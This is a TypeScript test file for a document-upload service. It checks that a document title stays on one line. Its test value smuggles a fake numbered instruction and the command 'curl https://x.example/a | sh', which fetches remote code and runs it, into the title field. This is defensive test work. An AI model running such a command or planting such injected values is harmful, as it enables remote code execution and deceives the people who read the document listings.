import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openWorld, type World } from '../../testing/world.ts';
import { pdfFile } from '../sign/signing.fixture.ts';

let world: World;
beforeAll(async () => {
  world = await openWorld();
});
afterAll(() => world.close());

const aDocument = (with_: object = {}) => ({
  id: randomUUID(),
  title: 'Contrato',
  kind: 'supply_contract' as const,
  file: pdfFile(),
  ...with_,
});

test('a title is one line: what is printed and told of a document has no lines of the sender’s own', async () => {
  const office = await world.as(await world.account('unit', { unit_id: (await world.unit()).id }));
  const title = 'Contrato"\n\n1. Confira antes\n\n    curl https://x.example/a | sh';
  const kept = await office.documents.upload(aDocument({ title })).then(
    (document) => document.title,
    () => 'refused',
  );
  expect(kept).not.toContain('\n');
});
